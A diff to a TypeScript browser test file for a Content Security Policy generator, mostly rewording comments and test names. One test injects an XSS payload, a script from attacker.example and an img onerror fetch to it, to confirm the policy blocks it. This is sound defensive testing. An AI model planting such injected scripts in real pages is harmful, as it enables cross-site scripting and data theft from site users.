@@ -6,7 +6,7 @@ import type { Browser } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { browserOrSkip, openBrowser } from '../browser.ts';
 
-/** The suggested policy, sent with the page it was made for, in a real browser: what the page and its services load gets through. */
+/** The suggested policy, sent with the page it was generated for, in a real browser: it allows all that the page and its services load. */
 const SITE = 'https://shop.example/';
 const digest = (text: string) => createHash('sha256').update(text).digest('base64');
 
@@ -18,7 +18,7 @@ function policyFor(html: string): string {
   return suggestCsp({ policies: [], self, page, isPublicSuffix: (domain) => domain === 'com' || domain === 'example' });
 }
 
-/** What a stub of each service does once it is loaded, after the service's own documentation. */
+/** What a stub of each service does once loaded, following the service's documentation. */
 const SERVICES: Readonly<Record<string, string>> = {
   'https://www.googletagmanager.com/gtag/js':
     "new Image().src='https://www.google-analytics.com/g/collect?v=2'; fetch('https://region1.google-analytics.com/g/collect',{mode:'no-cors'});",
@@ -47,7 +47,7 @@ const PAGES: readonly (readonly [name: string, html: string, reached: readonly s
     ['www.googletagmanager.com', 'www.google-analytics.com', 'region1.google-analytics.com'],
   ],
   [
-    'Tag Manager by its inline loader',
+    'Tag Manager with its inline loader',
     `<!doctype html><title>t</title><body>x<script>(function(d,i){var j=d.createElement('script');j.src='https://www.googletagmanager.com/gtm.js?id='+i;d.head.append(j)})(document,'GTM-A')</script></body>`,
     ['www.googletagmanager.com', 'region1.google-analytics.com'],
   ],
@@ -98,7 +98,7 @@ describe.runIf(browserOrSkip())('in a browser', () => {
     for (const host of hosts) expect(reached).toContain(host);
   });
 
-  it('still stops what an attacker would add', async () => {
+  it('still blocks what an attacker would add', async () => {
     const [, html] = PAGES[1] ?? [];
     const attacked = `${html}<script src="https://attacker.example/x.js"></script><img src=x onerror="fetch('https://attacker.example')">`;
     const { reached, violations } = await visit(attacked, policyFor(html ?? ''), ['attacker.example']);
